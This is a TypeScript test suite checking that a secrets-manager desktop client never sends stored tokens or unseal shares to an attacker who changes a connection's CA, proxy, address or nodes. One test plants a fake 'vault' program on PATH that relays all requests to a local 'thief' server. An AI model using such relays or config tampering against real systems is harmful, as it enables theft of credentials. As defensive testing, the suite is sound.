/**
 * Attacks on the way to a server: an attacker who changes the target of a connection gets nothing that was stored for
 * it (@boundary).
 */
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { ProfileDraft } from '../../../electron/contract/connections.ts'
import type { ConsentAct } from '../../../electron/core/consent/act.ts'
import type { AskConsent } from '../../../electron/core/consent/consent.ts'
import { createAuthority, selfSigned } from '../../servers/certificates.ts'
import { startThief, type Thief } from '../../servers/thief.ts'
import { startVault } from '../../servers/vault.ts'
import { allowed, codeOf, draftOf, startCore, unsealOwnNode, value, type TestCore } from '../../features/startCore.ts'

const passphrase = 'a passphrase of a test'
const ends: (() => Promise<void>)[] = []
let thief: Thief
/** The person's original connection. */
let ours: ProfileDraft
let test: TestCore
let profileId: string
/** The secrets that must never reach the attacker. */
let token: string
let share: string
/** The person's answer when consent is requested, and the requested consents. */
let allows: boolean
let asked: ConsentAct[]
const askConsent: AskConsent = async (request) => {
  asked.push(request.act)
  return allows && allowed(request)
}

beforeEach(async () => {
  const ca = await createAuthority('The CA of the company')
  const vault = await startVault({ tls: await ca.server() })
  thief = await startThief()
  ours = { ...draftOf(vault.address), caPem: ca.certPem }
  allows = false
  asked = []
  test = await startCore({ deps: { askConsent } })
  ends.push(
    () => vault.stop(),
    () => thief.stop(),
    () => test.stop(),
  )
  allows = true
  await value(test.client.app.keepInPassphraseFile({ passphrase }))
  allows = false
  asked = []
  profileId = (await value(test.client.connections.add({ profile: ours }))).id
  const { id: ceremonyId } = await value(test.client.server.initialize({ profileId, shares: 1, threshold: 1 }))
  token = (await value(test.client.server.revealCeremonyItem({ ceremonyId, item: 'root-token' }))).value
  share = (await value(test.client.server.revealCeremonyItem({ ceremonyId, item: 1 }))).value
  await value(test.client.server.keepCeremony({ ceremonyId, shares: [1], rootToken: true }))
  await value(unsealOwnNode(test.client, profileId, { by: 'kept' }))
  await value(test.client.server.finishCeremony({ ceremonyId, acceptLoss: true, signIn: false }))
  await value(test.client.session.signIn({ profileId, credentials: { method: 'token', token }, remember: true }))
})
afterEach(async () => {
  for (const end of ends.splice(0).toReversed()) await end()
})

/** Triggers everything that sends a stored or held secret automatically. */
async function tryEverything(): Promise<void> {
  await test.client.session.resume({ profileId })
  await test.client.session.renew({ profileId })
  await test.client.kv.read({ at: { profileId, mount: 'secret/', path: 'a' } })
  await unsealOwnNode(test.client, profileId, { by: 'kept' })
  await test.client.server.unsealNodes({ profileId, source: { by: 'kept' }, migrate: false })
  await test.client.session.signOut({ profileId, revoke: true })
}
/** Exits the app, changes its list of connections, which is not sealed, and starts it again. */
async function editedOnDisk(edit: (text: string) => string): Promise<void> {
  const { folder } = test
  await test.core.close()
  const file = join(folder, 'config', 'connections.json')
  await writeFile(file, edit(await readFile(file, 'utf8')))
  test = await startCore({ folder, deps: { askConsent } })
  await value(test.client.app.unlock({ passphrase }))
}
const jsonEdit = (change: object) => (text: string) => {
  const content = JSON.parse(text) as { profiles: { id: string }[] }
  const profiles = content.profiles.map((each) => (each.id === profileId ? { ...each, ...change } : each))
  return JSON.stringify({ ...content, profiles })
}
/** Returns which of the person's secrets have reached the attacker. */
const stolen = (): string[] => [...(thief.has(token) ? ['the token'] : []), ...(thief.has(share) ? ['the share'] : [])]

describe('a connection whose way was changed by an attacker', () => {
  const changes: readonly [string, () => object][] = [
    ['the CA and the proxy of the attacker', () => ({ caPem: thief.caPem, proxy: thief.proxy })],
    ['the proxy of the attacker, unverified', () => ({ skipVerify: true, proxy: thief.proxy })],
    ['the proxy of the attacker and both CAs', () => ({ caPem: `${ours.caPem}${thief.caPem}`, proxy: thief.proxy })],
    ['the address of the attacker', () => ({ address: thief.address })],
  ]

  it.each(changes)('sends the attacker nothing when changed through the window: %s', async (_what, change) => {
    await value(test.client.connections.update({ profileId, profile: { ...ours, ...change() } }))
    expect(await value(test.client.session.identity({ profileId }))).toBeNull()
    await tryEverything()
    expect(stolen()).toEqual([])
  })

  it.each(changes)('sends the attacker nothing when changed on the disk: %s', async (_what, change) => {
    await editedOnDisk(jsonEdit(change()))
    await tryEverything()
    expect(stolen()).toEqual([])
  })

  it.each(changes)(
    'sends the attacker nothing when changed on the disk while the app runs: %s',
    async (_what, change) => {
      const file = join(test.folder, 'config', 'connections.json')
      await writeFile(file, jsonEdit(change())(await readFile(file, 'utf8')))
      // The next change of the list makes the app read the file again.
      await value(test.client.connections.add({ profile: draftOf('http://127.0.0.1:1', 'another') }))
      await value(test.client.app.lock({}))
      await value(test.client.app.unlock({ passphrase }))
      await tryEverything()
      expect(stolen()).toEqual([])
    },
  )

  it('restores everything to the person when the way is the original one again', async () => {
    const changed = { ...ours, caPem: thief.caPem, proxy: thief.proxy }
    await value(test.client.connections.update({ profileId, profile: changed }))
    expect(await codeOf(test.client.session.resume({ profileId }))).toBe('rejected')
    await value(test.client.connections.update({ profileId, profile: ours }))
    expect(await value(test.client.session.resume({ profileId }))).toMatchObject({ remembered: true })
    expect(await value(unsealOwnNode(test.client, profileId, { by: 'kept' }))).toMatchObject({ sealed: false })
  })
})

describe('a connection that the list marks as the practice server', () => {
  it('sends nothing to a program named vault on PATH', async () => {
    const bin = join(test.folder, 'bin')
    await mkdir(bin)
    // Answers as the attacker's server does, on the port of the configuration that it is started with.
    const script = join(bin, 'vault.cjs')
    await writeFile(
      script,
      `const { readFileSync } = require('node:fs')
const { createServer, request } = require('node:http')
const config = process.argv.find((word) => word.startsWith('-config='))
if (config === undefined) { console.log('Vault v1.21.0'); process.exit(0) }
const port = Number(/127\\.0\\.0\\.1:(\\d+)/.exec(readFileSync(config.slice(8), 'utf8'))[1])
createServer((asked, answer) => {
  const onward = request(${JSON.stringify('THIEF')} + asked.url, { method: asked.method, headers: asked.headers }, (from) => {
    answer.writeHead(from.statusCode, from.headers); from.pipe(answer)
  })
  asked.pipe(onward)
}).listen(port, '127.0.0.1')
`.replace('THIEF', thief.address),
    )
    // Not in the script's shebang line, where a path must be short and contain no space.
    await writeFile(join(bin, 'vault'), `#!/bin/sh\nexec "${process.execPath}" "${script}" "$@"\n`)
    await chmod(join(bin, 'vault'), 0o755)
    const { folder } = test
    await test.core.close()
    const file = join(folder, 'config', 'connections.json')
    await writeFile(file, jsonEdit({ practice: true })(await readFile(file, 'utf8')))
    test = await startCore({ folder, deps: { askConsent, environment: { PATH: bin } } })
    await value(test.client.app.unlock({ passphrase }))
    for await (const progress of test.client.practice.start({})) void progress
    expect(thief.received.length).toBeGreaterThan(0)
    for (const { id } of await value(test.client.connections.list({}))) {
      await test.client.session.resume({ profileId: id })
      await unsealOwnNode(test.client, id, { by: 'kept' })
    }
    expect(stolen()).toEqual([])
    expect((await value(test.client.connections.list({}))).find(({ id }) => id === profileId)).toMatchObject({
      address: ours.address,
      practice: false,
    })
  })
})

describe('the question before a stored credential is shown', () => {
  it('names the server that the credential is stored for, even if the connection has a new target', async () => {
    const elsewhere = { ...ours, name: 'playground', address: thief.address }
    await value(test.client.connections.update({ profileId, profile: elsewhere }))
    for (const item of ['token', 'root-token', 1] as const)
      expect(await codeOf(test.client.custody.reveal({ profileId, item, passphrase }))).toBe('consent-refused')
    expect(asked.map((act) => 'address' in act && act.address)).toEqual([ours.address, ours.address, ours.address])
  })
})

describe('a draft', () => {
  const place = 'secret:secret/webapp/config'

  it('opens for no user who is signed in behind another proxy, and is available again on its own way', async () => {
    await value(test.client.drafts.keep({ profileId, place, content: 'half an edit' }))
    const behind = { ...ours, caPem: thief.caPem, proxy: thief.proxy }
    await value(test.client.connections.update({ profileId, profile: behind }))
    const credentials = { method: 'token', token: 'hvs.any' } as const
    await value(test.client.session.signIn({ profileId, credentials, remember: false }))
    expect(await value(test.client.drafts.read({ profileId, place }))).toBeNull()
    expect(await value(test.client.drafts.list({}))).toEqual([])
    await value(test.client.connections.update({ profileId, profile: ours }))
    await value(test.client.session.resume({ profileId }))
    expect(await value(test.client.drafts.read({ profileId, place }))).toMatchObject({ content: 'half an edit' })
  })
})

describe('an added node', () => {
  const fromKept = () => value(test.client.server.unsealNodes({ profileId, source: { by: 'kept' }, migrate: false }))

  it('gets no stored share unless the person has consented to it, and the question is asked once', async () => {
    await value(test.client.server.setNodes({ profileId, addresses: [thief.address] }))
    const outcomes = await fromKept()
    expect(outcomes.find(({ own }) => !own)).toMatchObject({ error: { code: 'consent-refused' } })
    expect(stolen()).toEqual([])
    allows = true
    await fromKept()
    await fromKept()
    expect(asked).toEqual(
      [1, 2].map(() => ({ kind: 'add-node', connection: 'test', address: ours.address, node: thief.address })),
    )
    // Removed and named again, the node is a new one.
    await value(test.client.server.setNodes({ profileId, addresses: [] }))
    await value(test.client.server.setNodes({ profileId, addresses: [thief.address] }))
    await fromKept()
    expect(asked).toHaveLength(3)
  })

  it('gets no stored share if it reports that it is unsealed until the question would have been asked', async () => {
    let looks = 0
    const received: string[] = []
    const liar = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`)
      if (request.url === '/v1/sys/seal-status') looks++
      const sealed = looks > 1
      response.setHeader('content-type', 'application/json')
      response.end(
        JSON.stringify({ type: 'shamir', initialized: true, sealed, t: 1, n: 1, progress: 0, version: '1.21.0' }),
      )
    })
    await new Promise<void>((resolve) => liar.listen(0, '127.0.0.1', resolve))
    ends.push(() => new Promise((resolve) => liar.close(() => resolve())))
    const { port } = liar.address() as AddressInfo
    await value(test.client.server.setNodes({ profileId, addresses: [`http://127.0.0.1:${port}`] }))
    const outcomes = await fromKept()
    expect(received).toContain('GET /v1/sys/seal-status')
    expect(received.filter((each) => each.endsWith('/unseal'))).toEqual([])
    expect(outcomes.find(({ own }) => !own)).toMatchObject({ error: { code: 'consent-refused' } })
    expect(asked).toEqual([])
  })

  it('gets typed shares without a question', async () => {
    await value(test.client.server.setNodes({ profileId, addresses: [thief.address] }))
    await value(test.client.server.unsealNodes({ profileId, source: { by: 'share', share: 'ab'.repeat(33) } }))
    expect(thief.has('ab'.repeat(33))).toBe(true)
    expect(asked).toEqual([])
  })
})

describe('data that is stored for another way', () => {
  const renewed = () => ({ ...ours, caPem: `${ours.caPem}${thief.caPem}` })

  it('is listed with what has changed, and moves only with the consent of the person', async () => {
    const place = 'secret:secret/webapp/config'
    await value(test.client.drafts.keep({ profileId, place, content: 'half an edit' }))
    await value(test.client.places.visit({ profileId, place: { mount: 'secret/', path: 'webapp/config' } }))
    await value(test.client.server.setNodes({ profileId, addresses: ['http://127.0.0.1:1'] }))
    expect(await value(test.client.custody.waysOf({ profileId }))).toMatchObject({ others: [] })
    await value(test.client.connections.update({ profileId, profile: renewed() }))
    const { here, others } = await value(test.client.custody.waysOf({ profileId }))
    expect(others).toMatchObject([
      {
        noted: 'all',
        changes: [
          {
            field: 'ca',
            from: expect.stringContaining('The CA of the company'),
            to: expect.stringContaining('A CA of the attacker'),
          },
        ],
        kept: { token: true, rootToken: true, shares: 1, nodes: 1, drafts: 1, places: true, ceremony: false },
      },
    ])
    const move = { profileId, from: others[0]?.id ?? '', to: here }
    expect(await codeOf(test.client.custody.moveToWay({ ...move, to: move.from }))).toBe('rejected')
    expect(asked).toEqual([])
    expect(await codeOf(test.client.custody.moveToWay(move))).toBe('consent-refused')
    const cas = {
      added: [{ subject: expect.stringContaining('A CA of the attacker'), fingerprint: expect.any(String) }],
      removed: [],
    }
    expect(asked).toEqual([{ kind: 'move-kept', connection: 'test', address: ours.address, changes: [], cas }])
    expect(await codeOf(test.client.session.resume({ profileId }))).toBe('rejected')

    allows = true
    await value(test.client.custody.moveToWay(move))
    expect(await value(test.client.custody.waysOf({ profileId }))).toMatchObject({ others: [] })
    expect(await value(test.client.session.resume({ profileId }))).toMatchObject({ remembered: true })
    expect(await value(unsealOwnNode(test.client, profileId, { by: 'kept' }))).toMatchObject({ sealed: false })
    expect(await value(test.client.drafts.read({ profileId, place }))).toMatchObject({ content: 'half an edit' })
    expect((await value(test.client.places.read({ profileId }))).recent).toHaveLength(1)
    expect(await codeOf(test.client.custody.moveToWay(move))).toBe('not-found')
  })

  it('does not move if the question could show only some of the added CAs', async () => {
    const many = await Promise.all(Array.from({ length: 20 }, (_, index) => createAuthority(`CA ${index}`)))
    const bundle = (count: number) => many.slice(0, count).map(({ certPem }) => certPem)
    const move = async (caPem: string) => {
      await value(test.client.connections.update({ profileId, profile: { ...ours, caPem } }))
      const { here, others } = await value(test.client.custody.waysOf({ profileId }))
      return codeOf(test.client.custody.moveToWay({ profileId, from: others[0]?.id ?? '', to: here }))
    }
    allows = true
    const attackers = [...bundle(10), thief.caPem, ...bundle(20).slice(10)].join('\n')
    expect(await move(attackers)).toBe('rejected')
    expect(asked).toEqual([])
    // In steps, each of which is shown in full.
    expect(await move([ours.caPem, ...bundle(20)].join('\n'))).toBe('ok')
    expect(asked).toMatchObject([{ cas: { added: { length: 20 }, removed: [] } }])
  })

  it('keeps its token while another one is stored for the new way', async () => {
    await value(test.client.connections.update({ profileId, profile: renewed() }))
    const credentials = { method: 'token', token } as const
    await value(test.client.session.signIn({ profileId, credentials, remember: true }))
    await value(test.client.session.signOut({ profileId, revoke: false }))
    expect(await value(test.client.server.kept({ profileId }))).toEqual({ shares: 0, rootToken: false, token: false })
    await value(test.client.connections.update({ profileId, profile: ours }))
    expect(await value(test.client.server.kept({ profileId }))).toEqual({ shares: 1, rootToken: true, token: true })
    expect(await value(test.client.session.resume({ profileId }))).toMatchObject({ remembered: true })
  })

  it('is not affected by another client certificate, which only signs out', async () => {
    const client = await selfSigned()
    const profile = { ...ours, clientCertPem: client.certPem, clientKeyPem: client.keyPem }
    await value(test.client.connections.update({ profileId, profile }))
    expect(await value(test.client.session.identity({ profileId }))).toBeNull()
    expect(await value(test.client.custody.waysOf({ profileId }))).toMatchObject({ others: [] })
    expect(await value(test.client.session.resume({ profileId }))).toMatchObject({ remembered: true })
  })
})
